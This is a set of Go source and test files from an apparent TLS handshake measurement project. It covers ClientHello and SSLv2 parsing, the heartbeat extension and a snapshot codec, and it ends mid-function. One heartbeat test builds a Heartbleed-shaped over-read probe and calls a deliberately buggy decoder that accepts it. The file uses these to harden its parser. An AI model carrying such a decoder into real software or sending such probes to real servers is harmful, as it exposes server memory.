	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if got != a {
		t.Error("alert mismatch")
	}
	if got.String() == "" {
		t.Error("empty alert string")
	}
	if err := got.DecodeFromBytes([]byte{1}); err == nil {
		t.Error("short alert decoded")
	}
}

func TestSSLv2RoundTrip(t *testing.T) {
	h := &SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x020080, 0x000005}, // v2 RC4, v2 RC4-export, TLS RSA_RC4_SHA
		Challenge:   bytes.Repeat([]byte{7}, 16),
	}
	raw, err := h.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	if !IsSSLv2Hello(raw) {
		t.Error("IsSSLv2Hello = false on valid hello")
	}
	var got SSLv2ClientHello
	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if got.Version != registry.VersionSSL2 || len(got.CipherSpecs) != 3 {
		t.Errorf("sslv2 decode: %+v", got)
	}
	if got.SessionID == nil {
		got.SessionID = []byte{}
	}
	tls := TLSSuitesFromSSLv2(got.CipherSpecs)
	if len(tls) != 1 || tls[0] != 0x0005 {
		t.Errorf("TLSSuitesFromSSLv2 = %v", tls)
	}
}

func TestSSLv2Truncation(t *testing.T) {
	h := &SSLv2ClientHello{Version: registry.VersionSSL2, CipherSpecs: []uint32{0x010080}, Challenge: make([]byte, 16)}
	raw, _ := h.MarshalBinary()
	for i := 0; i < len(raw); i++ {
		var got SSLv2ClientHello
		if err := got.DecodeFromBytes(raw[:i]); err == nil {
			t.Fatalf("truncated sslv2 hello of %d bytes decoded", i)
		}
	}
	// A TLS record is not an SSLv2 hello.
	if IsSSLv2Hello([]byte{22, 3, 1, 0, 5}) {
		t.Error("TLS record misdetected as SSLv2")
	}
}

func TestIsSSLv2HelloRejectsNonHelloType(t *testing.T) {
	// High bit set but message type 4 (server-verify) is not a client hello.
	if IsSSLv2Hello([]byte{0x80, 0x03, 0x04}) {
		t.Error("non-CLIENT-HELLO sslv2 message misdetected")
	}
}

// quickClientHello generates structurally valid random ClientHellos for the
// round-trip property test.
func quickClientHello(r *rand.Rand) *ClientHello {
	ch := &ClientHello{
		Version: []registry.Version{registry.VersionSSL3, registry.VersionTLS10,
			registry.VersionTLS11, registry.VersionTLS12}[r.Intn(4)],
		SessionID:          make([]byte, r.Intn(33)),
		CipherSuites:       make([]uint16, 1+r.Intn(64)),
		CompressionMethods: []byte{0},
	}
	r.Read(ch.Random[:])
	r.Read(ch.SessionID)
	for i := range ch.CipherSuites {
		ch.CipherSuites[i] = uint16(r.Intn(0x10000))
	}
	if len(ch.SessionID) == 0 {
		ch.SessionID = []byte{}
	}
	nExt := r.Intn(5)
	for i := 0; i < nExt; i++ {
		var body []byte
		if n := r.Intn(40); n > 0 {
			body = make([]byte, n)
			r.Read(body)
		}
		ch.Extensions = append(ch.Extensions, Extension{
			ID:   registry.ExtensionID(r.Intn(0x10000)),
			Data: body,
		})
	}
	return ch
}

func TestClientHelloRoundTripProperty(t *testing.T) {
	r := rand.New(rand.NewSource(42))
	for i := 0; i < 300; i++ {
		ch := quickClientHello(r)
		raw, err := ch.MarshalBinary()
		if err != nil {
			t.Fatal(err)
		}
		var got ClientHello
		if err := got.DecodeFromBytes(raw); err != nil {
			t.Fatalf("iteration %d: %v", i, err)
		}
		// Normalize nil vs empty for comparison.
		if got.SessionID == nil {
			got.SessionID = []byte{}
		}
		if !reflect.DeepEqual(ch, &got) {
			t.Fatalf("iteration %d mismatch:\n%+v\n%+v", i, ch, &got)
		}
	}
}

func TestDecodeRandomBytesNeverPanics(t *testing.T) {
	// Property: arbitrary input must produce an error or a valid struct,
	// never a panic. testing/quick drives the fuzzing.
	f := func(data []byte) bool {
		var ch ClientHello
		_ = ch.DecodeFromBytes(data)
		var sh ServerHello
		_ = sh.DecodeFromBytes(data)
		var v2 SSLv2ClientHello
		_ = v2.DecodeFromBytes(data)
		_, _, _ = DecodeRecord(data)
		_, _, _, _ = DecodeHandshake(data)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
