package wire

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestHeartbeatRoundTrip(t *testing.T) {
	msg := &HeartbeatMessage{
		Type:          HeartbeatRequest,
		PayloadLength: 4,
		Payload:       []byte{1, 2, 3, 4},
	}
	raw, err := msg.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	var got HeartbeatMessage
	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if got.Type != HeartbeatRequest || !bytes.Equal(got.Payload, msg.Payload) {
		t.Errorf("round trip: %+v", got)
	}
	if len(got.Padding) != 16 {
		t.Errorf("padding = %d bytes", len(got.Padding))
	}
}

func TestHeartbeatCorrectDecodeRejectsOverread(t *testing.T) {
	// The Heartbleed probe shape: claim 4096, send 16. RFC 6520 requires
	// silent discard — DecodeFromBytes must error.
	msg := &HeartbeatMessage{
		Type:          HeartbeatRequest,
		PayloadLength: 4096,
		Payload:       make([]byte, 16),
	}
	raw, err := msg.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	var correct HeartbeatMessage
	if err := correct.DecodeFromBytes(raw); err == nil {
		t.Fatal("compliant decoder accepted an over-read claim")
	}
	// The buggy decoder accepts it — that is CVE-2014-0160.
	var buggy HeartbeatMessage
	if err := buggy.BuggyDecode(raw); err != nil {
		t.Fatal(err)
	}
	if buggy.PayloadLength != 4096 {
		t.Errorf("claimed length = %d", buggy.PayloadLength)
	}
}

func TestHeartbeatTruncation(t *testing.T) {
	var m HeartbeatMessage
	for _, data := range [][]byte{nil, {1}, {1, 0}} {
		if err := m.DecodeFromBytes(data); err == nil {
			t.Error("truncated heartbeat decoded")
		}
		if err := m.BuggyDecode(data); err == nil {
			t.Error("truncated heartbeat buggy-decoded")
		}
	}
}

func TestHeartbeatDecodeNeverPanics(t *testing.T) {
	f := func(data []byte) bool {
		var a, b HeartbeatMessage
		_ = a.DecodeFromBytes(data)
		_ = b.BuggyDecode(data)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}

func TestHeartbeatHonestRoundTripProperty(t *testing.T) {
	// For honest messages (claim == actual), the compliant decoder recovers
	// the payload exactly.
	f := func(payload []byte) bool {
		if len(payload) > 1024 {
			payload = payload[:1024]
		}
		msg := &HeartbeatMessage{
			Type:          HeartbeatResponse,
			PayloadLength: uint16(len(payload)),
			Payload:       payload,
		}
		raw, err := msg.MarshalBinary()
		if err != nil {
			return false
		}
		var got HeartbeatMessage
		if err := got.DecodeFromBytes(raw); err != nil {
			return false
		}
		return bytes.Equal(got.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
