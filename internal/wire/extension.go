package wire

import (
	"fmt"

	"tlsage/internal/registry"
)

// Extension is one raw TLS extension: its code point and opaque body.
// Typed accessors for the bodies the study decodes (supported_groups,
// ec_point_formats, supported_versions, server_name, heartbeat) live on
// ClientHello/ServerHello.
type Extension struct {
	ID   registry.ExtensionID
	Data []byte
}

// appendExtensions serializes an extension block (uint16 total length, then
// each extension as ID, uint16 body length, body).
func appendExtensions(b *builder, exts []Extension) error {
	var inner builder
	for _, e := range exts {
		if len(e.Data) > 0xffff {
			return fmt.Errorf("%w: extension %v body too large", ErrMalformed, e.ID)
		}
		inner.u16(uint16(e.ID))
		inner.vec16(e.Data)
	}
	if len(inner.buf) > 0xffff {
		return fmt.Errorf("%w: extension block too large", ErrMalformed)
	}
	b.vec16(inner.buf)
	return nil
}

// parseExtensions parses an extension block. Bodies are copied so the result
// does not alias the input.
func parseExtensions(r *reader) ([]Extension, error) {
	block := r.vec16("extensions block")
	if r.err != nil {
		return nil, r.err
	}
	er := newReader(block)
	var out []Extension
	for !er.empty() {
		id := er.u16("extension id")
		body := er.vec16("extension body")
		if er.err != nil {
			return nil, er.err
		}
		out = append(out, Extension{
			ID:   registry.ExtensionID(id),
			Data: append([]byte(nil), body...),
		})
	}
	return out, nil
}

// FindExtension returns the first extension with the given ID, or false.
func FindExtension(exts []Extension, id registry.ExtensionID) (Extension, bool) {
	for _, e := range exts {
		if e.ID == id {
			return e, true
		}
	}
	return Extension{}, false
}

// --- Typed extension constructors ---

// NewSupportedGroupsExtension builds a supported_groups (elliptic_curves)
// extension body from the curve list.
func NewSupportedGroupsExtension(curves []registry.CurveID) Extension {
	var b builder
	vals := make([]uint16, len(curves))
	for i, c := range curves {
		vals[i] = uint16(c)
	}
	b.u16listVec(vals)
	return Extension{ID: registry.ExtSupportedGroups, Data: b.buf}
}

// NewECPointFormatsExtension builds an ec_point_formats extension body.
func NewECPointFormatsExtension(formats []registry.ECPointFormat) Extension {
	body := make([]byte, 1+len(formats))
	body[0] = byte(len(formats))
	for i, f := range formats {
		body[1+i] = byte(f)
	}
	return Extension{ID: registry.ExtECPointFormats, Data: body}
}

// NewSupportedVersionsExtension builds the TLS 1.3 supported_versions
// ClientHello body (uint8 length prefix, then uint16 versions).
func NewSupportedVersionsExtension(versions []registry.Version) Extension {
	body := make([]byte, 1, 1+2*len(versions))
	body[0] = byte(2 * len(versions))
	for _, v := range versions {
		body = append(body, byte(v>>8), byte(v))
	}
	return Extension{ID: registry.ExtSupportedVersions, Data: body}
}

// NewHeartbeatExtension builds a heartbeat extension (RFC 6520) with the
// given mode (1 = peer_allowed_to_send).
func NewHeartbeatExtension(mode uint8) Extension {
	return Extension{ID: registry.ExtHeartbeat, Data: []byte{mode}}
}

// NewServerNameExtension builds a server_name (SNI) extension carrying one
// host_name entry.
func NewServerNameExtension(host string) Extension {
	var b builder
	var list builder
	list.u8(0) // name_type host_name
	list.vec16([]byte(host))
	b.vec16(list.buf)
	return Extension{ID: registry.ExtServerName, Data: b.buf}
}

// --- Typed extension parsers ---

// The supported_groups / ec_point_formats / supported_versions bodies are
// decoded by the ClientHello.Append* accessors in clienthello.go — one
// decoder per extension, shared by the plain and append-into accessor
// families.

// ParseServerName decodes the first host_name entry of a server_name body.
func ParseServerName(data []byte) (string, error) {
	r := newReader(data)
	list := r.vec16("server_name list")
	if r.err != nil {
		return "", r.err
	}
	lr := newReader(list)
	for !lr.empty() {
		nameType := lr.u8("server_name type")
		name := lr.vec16("server_name value")
		if lr.err != nil {
			return "", lr.err
		}
		if nameType == 0 {
			return string(name), nil
		}
	}
	return "", fmt.Errorf("%w: no host_name entry", ErrMalformed)
}

// ParseHeartbeatMode decodes a heartbeat extension body.
func ParseHeartbeatMode(data []byte) (uint8, error) {
	if len(data) < 1 {
		return 0, fmt.Errorf("%w: heartbeat body", ErrTruncated)
	}
	return data[0], nil
}
