package wire

import (
	"bytes"
	"math/rand"
	"testing"

	"tlsage/internal/registry"
)

func encoderTestHello(rnd *rand.Rand) *ClientHello {
	n := 1 + rnd.Intn(20)
	suites := make([]uint16, n)
	for i := range suites {
		suites[i] = uint16(rnd.Intn(0x1400))
	}
	ch := &ClientHello{
		Version:      registry.VersionTLS12,
		CipherSuites: suites,
	}
	rnd.Read(ch.Random[:])
	if rnd.Intn(2) == 0 {
		ch.Extensions = []Extension{
			NewSupportedGroupsExtension([]registry.CurveID{registry.CurveSecp256r1}),
			{ID: registry.ExtHeartbeat, Data: []byte{1}},
		}
	}
	return ch
}

// A reused HelloEncoder must emit exactly the bytes of the allocate-fresh
// AppendRecord path, message after message.
func TestHelloEncoderMatchesAppendRecord(t *testing.T) {
	rnd := rand.New(rand.NewSource(3))
	var enc HelloEncoder
	var scratch []byte
	for i := 0; i < 200; i++ {
		ch := encoderTestHello(rnd)
		want, err := ch.AppendRecord(nil)
		if err != nil {
			t.Fatal(err)
		}
		scratch, err = enc.AppendRecord(ch, scratch[:0])
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(want, scratch) {
			t.Fatalf("message %d: encoder bytes differ from AppendRecord", i)
		}
	}
}

// Steady-state encoding through the scratch buffers must not allocate.
func TestHelloEncoderSteadyStateAllocs(t *testing.T) {
	rnd := rand.New(rand.NewSource(4))
	ch := encoderTestHello(rnd)
	var enc HelloEncoder
	dst, err := enc.AppendRecord(ch, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := testing.AllocsPerRun(200, func() {
		var err error
		dst, err = enc.AppendRecord(ch, dst[:0])
		if err != nil {
			t.Fatal(err)
		}
	}); got != 0 {
		t.Errorf("steady-state HelloEncoder.AppendRecord: %v allocs/run, want 0", got)
	}
}
