package notary

import (
	"bytes"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"tlsage/internal/registry"
)

// compatFixtureRecords builds the deterministic record stream behind the
// recorded testdata/{snapshot,batch}_v1.bin fixtures. The fixtures were
// written by the version-1 codecs (RECORD_COMPAT_FIXTURES=1 on the pre-bump
// tree); regenerating them under a newer codec would defeat the point of the
// compatibility tests, so the recorder test below is guarded.
func compatFixtureRecords() []*Record {
	rnd := rand.New(rand.NewSource(99))
	all := registry.AllSuites()
	recs := make([]*Record, 400)
	for i := range recs {
		recs[i] = randomRecord(rnd, all)
	}
	return recs
}

func compatFixtureAggregate() *Aggregate {
	agg := NewAggregate()
	for _, r := range compatFixtureRecords() {
		agg.Add(r)
	}
	return agg
}

// TestRecordCompatFixtures re-records the version-1 fixtures. It only runs
// when RECORD_COMPAT_FIXTURES is set and exists so the recording procedure is
// documented in code; running it on a post-bump tree would overwrite genuine
// v1 bytes with current-version bytes.
func TestRecordCompatFixtures(t *testing.T) {
	if os.Getenv("RECORD_COMPAT_FIXTURES") == "" {
		t.Skip("set RECORD_COMPAT_FIXTURES=1 on a pre-bump tree to record")
	}
	if err := os.MkdirAll("testdata", 0o755); err != nil {
		t.Fatal(err)
	}
	snap := EncodeSnapshot(nil, compatFixtureAggregate())
	if err := os.WriteFile(filepath.Join("testdata", "snapshot_v1.bin"), snap, 0o644); err != nil {
		t.Fatal(err)
	}
	batch := EncodeBatch(compatFixtureRecords())
	if err := os.WriteFile(filepath.Join("testdata", "batch_v1.bin"), batch, 0o644); err != nil {
		t.Fatal(err)
	}
}

func readFixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	if len(b) < 5 {
		t.Fatalf("fixture %s too short (%d bytes)", name, len(b))
	}
	if b[4] != 1 {
		t.Fatalf("fixture %s carries version %d, want recorded version 1", name, b[4])
	}
	return b
}

// TestSnapshotV1Decodes: a genuine version-1 snapshot (recorded before the
// attribution counters existed) must decode under the version-2 reader with
// every pre-existing counter intact and the ByFingerprint/ByClientClass maps
// empty — an upgrade must not force a re-ingest.
func TestSnapshotV1Decodes(t *testing.T) {
	got, err := DecodeSnapshot(readFixture(t, "snapshot_v1.bin"))
	if err != nil {
		t.Fatalf("v1 snapshot rejected: %v", err)
	}
	want := compatFixtureAggregate()
	fpVolume := 0
	for _, m := range want.Months() {
		ms := want.Stats(m)
		fpVolume += len(ms.ByFingerprint)
		// A v1 payload carries no attribution maps; the decoder leaves them
		// allocated but empty.
		ms.ByFingerprint = make(map[string]int)
		ms.ByClientClass = make(map[string]int)
	}
	if fpVolume == 0 {
		t.Fatal("fixture has no fingerprint volume at all — weak fixture")
	}
	for _, m := range got.Months() {
		gms := got.Stats(m)
		if len(gms.ByFingerprint) != 0 || len(gms.ByClientClass) != 0 {
			t.Fatalf("month %v: v1 decode invented attribution counters", m)
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatal("v1 snapshot decode differs from replayed fixture records")
	}
}

// TestBatchV1Decodes: a version-1 batch stream decodes under the version-2
// reader; the record payload never changed, so ingesting it fills the new
// attribution counters exactly as a live stream would.
func TestBatchV1Decodes(t *testing.T) {
	raw := readFixture(t, "batch_v1.bin")
	got := NewAggregate()
	frames, records, err := ReadBatches(bytes.NewReader(raw), got)
	if err != nil {
		t.Fatalf("v1 batch rejected: %v", err)
	}
	want := compatFixtureAggregate()
	if records != uint64(want.TotalRecords()) {
		t.Fatalf("decoded %d records from %d frames, want %d", records, frames, want.TotalRecords())
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatal("v1 batch ingest differs from replayed fixture records")
	}
}

// TestUnknownNewerVersionsRejected: versions beyond what this build writes
// still fail loudly — forward compatibility is an explicit error, never a
// misdecode.
func TestUnknownNewerVersionsRejected(t *testing.T) {
	snap := append([]byte(nil), readFixture(t, "snapshot_v1.bin")...)
	snap[4] = SnapshotVersion + 1
	if _, err := DecodeSnapshot(snap); err == nil {
		t.Error("snapshot version beyond current accepted")
	}
	batch := append([]byte(nil), readFixture(t, "batch_v1.bin")...)
	batch[4] = BatchVersion + 1
	if _, _, err := ReadBatches(bytes.NewReader(batch), NewAggregate()); err == nil {
		t.Error("batch version beyond current accepted")
	}
}
