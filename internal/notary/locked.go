package notary

import "sync"

// LockedSink wraps a Sink so that any number of goroutines may deliver
// records into it concurrently. The wrapped sink keeps its single-goroutine
// Observe contract — the lock serializes deliveries — which makes stateful
// sinks like *Aggregate and *LogWriter safe behind multiple producers (the
// live-service ingest path, or several TCP streams teeing into one log).
//
// Close also takes the lock, so a Close never interleaves with an in-flight
// Observe. Closing does not poison the sink; serialization is the wrapper's
// only job.
type LockedSink struct {
	mu    sync.Mutex
	inner Sink
}

// NewLockedSink wraps inner. A nil inner yields a sink that drops records,
// so optional consumers can be wired unconditionally.
func NewLockedSink(inner Sink) *LockedSink {
	return &LockedSink{inner: inner}
}

// Observe delivers r to the wrapped sink under the lock.
func (ls *LockedSink) Observe(r *Record) error {
	ls.mu.Lock()
	defer ls.mu.Unlock()
	if ls.inner == nil {
		return nil
	}
	return ls.inner.Observe(r)
}

// Close closes the wrapped sink under the lock.
func (ls *LockedSink) Close() error {
	ls.mu.Lock()
	defer ls.mu.Unlock()
	if ls.inner == nil {
		return nil
	}
	return ls.inner.Close()
}

// Do runs fn while holding the sink's lock — the atomic-section escape
// hatch for multi-call sequences against the wrapped sink (e.g. snapshot
// then reset) that must not interleave with concurrent Observes.
func (ls *LockedSink) Do(fn func(Sink) error) error {
	ls.mu.Lock()
	defer ls.mu.Unlock()
	return fn(ls.inner)
}
