package notary

import (
	"bytes"
	"errors"
	"testing"
)

// TestReadLogTailBaseDirective pins the generation arithmetic of rebased
// logs: a #base directive declares the log was truncated at some absolute
// generation, so skip (a snapshot's record count) aligns against base+line
// instead of assuming the log starts at generation zero.
func TestReadLogTailBaseDirective(t *testing.T) {
	var buf bytes.Buffer
	buf.WriteString(LogBaseDirective(40))
	lw := NewLogWriter(&buf)
	for i := 0; i < 10; i++ {
		if err := lw.Write(sampleRecord()); err != nil {
			t.Fatal(err)
		}
	}
	if err := lw.Flush(); err != nil {
		t.Fatal(err)
	}
	log := buf.Bytes() // records carrying generations 41..50

	cases := []struct {
		skip, delivered uint64
	}{
		{0, 10},  // full replay of what the log holds
		{40, 10}, // snapshot exactly at the base
		{45, 5},  // snapshot past the base: only the tail
		{50, 0},  // snapshot covers the whole log
		{60, 0},  // snapshot beyond the log: nothing, no error
		{20, 10}, // snapshot older than the base: the gap is simply absent
	}
	for _, c := range cases {
		var n uint64
		got, base, err := ReadLogTail(bytes.NewReader(log), c.skip,
			SinkFunc(func(*Record) error { n++; return nil }))
		if err != nil {
			t.Fatalf("skip=%d: %v", c.skip, err)
		}
		if got != c.delivered || n != c.delivered || base != 40 {
			t.Fatalf("skip=%d: delivered %d (sink saw %d), base %d; want %d, base 40",
				c.skip, got, n, base, c.delivered)
		}
	}
}

// TestReadLogTailBaseRewind treats a directive that moves the generation
// backwards as corruption: the valid prefix is kept and the bad line is
// reported like any torn tail.
func TestReadLogTailBaseRewind(t *testing.T) {
	var buf bytes.Buffer
	lw := NewLogWriter(&buf)
	for i := 0; i < 5; i++ {
		if err := lw.Write(sampleRecord()); err != nil {
			t.Fatal(err)
		}
	}
	if err := lw.Flush(); err != nil {
		t.Fatal(err)
	}
	buf.WriteString(LogBaseDirective(2)) // rewinds generation 5 to 2

	got, _, err := ReadLogTail(&buf, 0, SinkFunc(func(*Record) error { return nil }))
	var le *LineError
	if !errors.As(err, &le) {
		t.Fatalf("rewinding directive: err = %v, want *LineError", err)
	}
	if got != 5 {
		t.Fatalf("delivered %d records before the rewind, want 5", got)
	}
}
