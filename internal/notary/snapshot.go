package notary

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"sort"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Snapshot codec: a versioned, length-prefixed binary encoding of an
// Aggregate. It is the durability format of the live service (periodic
// snapshot-to-disk, restart recovery) and the future federation wire format
// (shipping merged aggregate deltas upstream costs O(months×counters)
// instead of O(records)).
//
// Frame layout:
//
//	offset  size  field
//	0       4     magic "TLSN"
//	4       1     version byte (SnapshotVersion)
//	5       8     payload length, uint64 little-endian
//	13      N     payload (varint-packed counters, see below)
//	13+N    4     CRC32-IEEE of the payload, little-endian
//
// The payload packs the generation, every MonthStats (counters, maps,
// fingerprint capability sets) and the fingerprint lifetime maps. Map
// entries are written in sorted key order, so encoding is deterministic:
// equal aggregate content yields equal bytes. All integer counters are
// unsigned varints; float64 position sums are fixed 8-byte little-endian
// IEEE 754.
//
// Decoding is defensive: every length is bounds-checked against the bytes
// actually present, so arbitrary or corrupted input yields an error — never
// a panic or an implausible allocation (fuzzed by FuzzReadSnapshot).

// snapshotMagic brands snapshot files/streams.
const snapshotMagic = "TLSN"

// SnapshotVersion is the wire-format version byte written by this build.
// Version 2 appended the per-month ByFingerprint/ByClientClass attribution
// maps after the FPs table. Readers accept snapshotMinVersion through
// SnapshotVersion — a version-1 snapshot still decodes, with the attribution
// maps left empty — and reject anything newer, so the format can evolve
// without silent misdecodes.
const SnapshotVersion = 2

// snapshotMinVersion is the oldest snapshot version this build still reads.
const snapshotMinVersion = 1

// snapshotHeaderLen is magic + version + payload length.
const snapshotHeaderLen = len(snapshotMagic) + 1 + 8

// maxSnapshotPayload caps the payload length a reader will believe. A real
// snapshot of the multi-year study is a few MiB; a corrupt length field must
// not drive a multi-GiB allocation.
const maxSnapshotPayload = 1 << 32

// EncodeSnapshot appends the complete framed snapshot of a to dst and
// returns the extended slice. Encoding is deterministic for equal content.
func EncodeSnapshot(dst []byte, a *Aggregate) []byte {
	dst = append(dst, snapshotMagic...)
	dst = append(dst, SnapshotVersion)
	lenAt := len(dst)
	dst = append(dst, 0, 0, 0, 0, 0, 0, 0, 0) // payload length backfilled below
	payloadAt := len(dst)
	dst = appendSnapshotPayload(dst, a)
	payload := dst[payloadAt:]
	binary.LittleEndian.PutUint64(dst[lenAt:], uint64(len(payload)))
	return binary.LittleEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload))
}

// WriteSnapshot writes the framed snapshot of a to w.
func WriteSnapshot(w io.Writer, a *Aggregate) error {
	_, err := w.Write(EncodeSnapshot(nil, a))
	return err
}

// ReadSnapshot reads one framed snapshot from r and decodes it. Truncated,
// corrupted or version-mismatched input yields an error; the returned
// aggregate is nil unless the checksum and every field decoded cleanly.
func ReadSnapshot(r io.Reader) (*Aggregate, error) {
	var hdr [13]byte // snapshotHeaderLen
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, fmt.Errorf("notary: snapshot header: %w", err)
	}
	if string(hdr[:4]) != snapshotMagic {
		return nil, fmt.Errorf("notary: not a snapshot (bad magic %q)", hdr[:4])
	}
	if hdr[4] < snapshotMinVersion || hdr[4] > SnapshotVersion {
		return nil, fmt.Errorf("notary: snapshot version %d, this build reads %d..%d",
			hdr[4], snapshotMinVersion, SnapshotVersion)
	}
	version := hdr[4]
	n := binary.LittleEndian.Uint64(hdr[5:])
	if n > maxSnapshotPayload {
		return nil, fmt.Errorf("notary: implausible snapshot payload length %d", n)
	}
	// LimitReader + ReadAll grows with the bytes actually present, so a
	// corrupt length over a short stream fails without a huge up-front
	// allocation.
	body, err := io.ReadAll(io.LimitReader(r, int64(n)+4))
	if err != nil {
		return nil, fmt.Errorf("notary: snapshot body: %w", err)
	}
	if uint64(len(body)) != n+4 {
		return nil, fmt.Errorf("notary: truncated snapshot: %d payload+trailer bytes, want %d", len(body), n+4)
	}
	payload, trailer := body[:n], body[n:]
	if got, want := crc32.ChecksumIEEE(payload), binary.LittleEndian.Uint32(trailer); got != want {
		return nil, fmt.Errorf("notary: snapshot checksum mismatch (%08x, want %08x)", got, want)
	}
	return decodeSnapshotPayload(payload, version)
}

// AppendAggregatePayload appends the snapshot codec's bare varint-packed
// payload of a to dst — no magic, length prefix or checksum trailer. The
// federation delta frame embeds this payload inside its own framing so the
// two wire formats share one (deterministic, fuzz-hardened) aggregate
// encoding instead of nesting complete frames.
func AppendAggregatePayload(dst []byte, a *Aggregate) []byte {
	return appendSnapshotPayload(dst, a)
}

// DecodeAggregatePayload decodes a payload written by AppendAggregatePayload
// at the given snapshot payload version (SnapshotVersion when encoding with
// this build). Trailing bytes, corrupt fields and out-of-range versions all
// error; arbitrary input never panics.
func DecodeAggregatePayload(b []byte, version byte) (*Aggregate, error) {
	if version < snapshotMinVersion || version > SnapshotVersion {
		return nil, fmt.Errorf("notary: aggregate payload version %d, this build reads %d..%d",
			version, snapshotMinVersion, SnapshotVersion)
	}
	return decodeSnapshotPayload(b, version)
}

// DecodeSnapshot decodes one framed snapshot from b (exactly one frame; no
// trailing bytes are tolerated).
func DecodeSnapshot(b []byte) (*Aggregate, error) {
	r := newExactReader(b)
	a, err := ReadSnapshot(r)
	if err != nil {
		return nil, err
	}
	if r.off != len(b) {
		return nil, fmt.Errorf("notary: %d trailing bytes after snapshot frame", len(b)-r.off)
	}
	return a, nil
}

// exactReader is a bytes.Reader variant whose ReadAll path sees EOF exactly
// at the end of b, and which lets DecodeSnapshot reject trailing garbage.
type exactReader struct {
	b   []byte
	off int
}

func newExactReader(b []byte) *exactReader { return &exactReader{b: b} }

func (e *exactReader) Read(p []byte) (int, error) {
	if e.off >= len(e.b) {
		return 0, io.EOF
	}
	n := copy(p, e.b[e.off:])
	e.off += n
	return n, nil
}

// --- payload encoding ---

func appendUvarint(dst []byte, v uint64) []byte { return binary.AppendUvarint(dst, v) }

func appendCount(dst []byte, v int) []byte { return binary.AppendUvarint(dst, uint64(v)) }

func appendString(dst []byte, s string) []byte {
	dst = appendCount(dst, len(s))
	return append(dst, s...)
}

func appendFloat64(dst []byte, f float64) []byte {
	return binary.LittleEndian.AppendUint64(dst, math.Float64bits(f))
}

func appendDateEnc(dst []byte, d timeline.Date) []byte {
	dst = appendCount(dst, d.Year)
	dst = appendCount(dst, int(d.Month))
	return appendCount(dst, d.Day)
}

// appendU16Map encodes a map keyed by a uint16-backed code point type in
// sorted key order.
func appendU16Map[K ~uint8 | ~uint16](dst []byte, m map[K]int) []byte {
	dst = appendCount(dst, len(m))
	keys := make([]K, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	for _, k := range keys {
		dst = appendUvarint(dst, uint64(k))
		dst = appendCount(dst, m[k])
	}
	return dst
}

func sortedStringKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func appendStrIntMap(dst []byte, m map[string]int) []byte {
	dst = appendCount(dst, len(m))
	for _, k := range sortedStringKeys(m) {
		dst = appendString(dst, k)
		dst = appendCount(dst, m[k])
	}
	return dst
}

// FPCaps flag bits in the snapshot encoding.
const (
	fpRC4 = 1 << iota
	fpDES
	fpTDES
	fpAEAD
	fpNULL
	fpAnon
	fpExport
)

func fpCapsByte(c *FPCaps) byte {
	var b byte
	if c.RC4 {
		b |= fpRC4
	}
	if c.DES {
		b |= fpDES
	}
	if c.TDES {
		b |= fpTDES
	}
	if c.AEAD {
		b |= fpAEAD
	}
	if c.NULLc {
		b |= fpNULL
	}
	if c.Anon {
		b |= fpAnon
	}
	if c.Export {
		b |= fpExport
	}
	return b
}

func fpCapsFromByte(b byte, count int) *FPCaps {
	return &FPCaps{
		RC4:    b&fpRC4 != 0,
		DES:    b&fpDES != 0,
		TDES:   b&fpTDES != 0,
		AEAD:   b&fpAEAD != 0,
		NULLc:  b&fpNULL != 0,
		Anon:   b&fpAnon != 0,
		Export: b&fpExport != 0,
		Count:  count,
	}
}

func appendSnapshotPayload(dst []byte, a *Aggregate) []byte {
	dst = appendUvarint(dst, a.generation)
	months := a.Months()
	dst = appendCount(dst, len(months))
	for _, m := range months {
		dst = appendMonthStats(dst, a.months[m])
	}
	// Fingerprint lifetimes: fpFirst, fpLast and fpConns always share one
	// key set (Add fills all three together, Merge preserves that), so one
	// row carries all three values.
	dst = appendCount(dst, len(a.fpFirst))
	for _, fp := range sortedStringKeys(a.fpFirst) {
		dst = appendString(dst, fp)
		dst = appendDateEnc(dst, a.fpFirst[fp])
		dst = appendDateEnc(dst, a.fpLast[fp])
		dst = appendUvarint(dst, uint64(a.fpConns[fp]))
	}
	return dst
}

func appendMonthStats(dst []byte, ms *MonthStats) []byte {
	dst = appendCount(dst, ms.Month.Year)
	dst = appendCount(dst, int(ms.Month.M))
	dst = appendCount(dst, ms.Total)
	dst = appendCount(dst, ms.Established)
	dst = appendU16Map(dst, ms.ByVersion)
	dst = appendStrIntMap(dst, ms.ByClass)
	dst = appendU16Map(dst, ms.ByKex)
	dst = appendU16Map(dst, ms.BySuite)
	dst = appendU16Map(dst, ms.ByCurve)
	dst = appendU16Map(dst, ms.TLS13Variant)
	dst = appendU16Map(dst, ms.ByExtension)
	for _, v := range [...]int{
		ms.AdvRC4, ms.AdvDES, ms.Adv3DES, ms.AdvAEAD,
		ms.AdvExport, ms.AdvAnon, ms.AdvNULL,
